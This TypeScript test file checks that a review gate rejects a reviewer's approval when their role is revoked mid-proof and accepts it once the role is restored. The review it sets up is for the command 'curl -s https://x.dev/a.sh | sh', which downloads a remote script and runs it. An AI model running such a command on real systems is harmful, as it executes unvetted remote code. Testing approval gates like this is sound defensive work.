import { expect, test } from 'vitest'
import { callKey } from '../../src/gate/binding/call-digest.ts'
import type { RoleBinding } from '../../src/model/role-binding.ts'
import { SignedAnswers } from '../../src/people/answers/signed-answers.ts'
import { LocalReviews } from '../../src/people/reviews/local-reviews.ts'
import { OpenedReviews } from '../../src/people/reviews/opened-reviews.ts'
import { countedPeople } from '../../src/people/roles/counted-people.ts'
import { teamRolesOf } from '../../src/people/roles/team-roles.ts'
import { ActSigner } from '../../src/people/standing/act-signer.ts'
import { LatestPrompts } from '../../src/people/standing/latest-prompts.ts'
import { SignedState } from '../../src/people/standing/signed-state.ts'
import { openPeopleGate, policyWith } from './open-people-gate.ts'
import { addReviewer, rightAnswer } from './review-answers.ts'

test('a yes of somebody whose role is taken away between the proof’s start and its end does not count', async () => {
  const people = openPeopleGate()
  const { gate, store, clock } = people
  const { people: rows } = store
  const alice = await addReviewer(people)
  const role = (name: RoleBinding['role']): RoleBinding => ({
    id: `b-${name}`,
    role: name,
    to: { kind: 'person', reviewer: 'alice' },
    by: 'alice',
    at: 0,
  })
  const given = { add: [role('owner'), role('reviewer')], remove: [] }
  await rows.act({ at: clock.now, log: [], bindings: given })
  const { reviewId = '' } = await people.shell('curl -s https://x.dev/a.sh | sh')
  const state = new SignedState(rows)
  let isEnding = true
  const { reviewers, passkeys } = gate
  const reviews = new LocalReviews({
    store,
    policy: policyWith(),
    prove: (who, needed) => reviewers.prove(who, needed),
    proveNo: async () => 'none',
    open: who => reviewers.checks.open(who),
    passkeys: {
      offerFor: (...asked) => passkeys.offerFor(...asked),
      proveYes: async (...asked) => {
        const end = { add: [], remove: ['b-reviewer'] }
        if (isEnding) await rows.act({ at: clock.now, log: [], bindings: end })
        return passkeys.proveYes(...asked)
      },
    },
    opened: new OpenedReviews(callKey),
    prompts: new LatestPrompts(),
    state,
    signer: new ActSigner(rows, state),
    answers: new SignedAnswers(store, state),
    groupsOf: ({ level, profile }) => {
      const deed = { kind: 'answer', gates: 'laptops', level, profile } as const
      return countedPeople(teamRolesOf(rows.team), deed, { askers: [] }, clock.now)
    },
    now: () => clock.now,
    clock: () => clock.now,
    steady: () => clock.now,
  })
  const answered = async () => {
    const { id } = await reviews.begin(reviewId, alice)
    clock.now += 60_000
    const answer = rightAnswer({ store }, id)
    return reviews.answer({ reviewId, who: alice, approve: true, sheetId: id, answer })
  }
  await expect(answered()).rejects.toMatchObject({ code: 'forbidden', field: 'reviewer' })
  expect(rows.review(reviewId)).toMatchObject({ state: 'pending', votes: [] })
  isEnding = false
  await rows.act({ at: clock.now, log: [], bindings: { add: [role('reviewer')], remove: [] } })
  expect((await answered()).review).toMatchObject({ state: 'approved' })
})
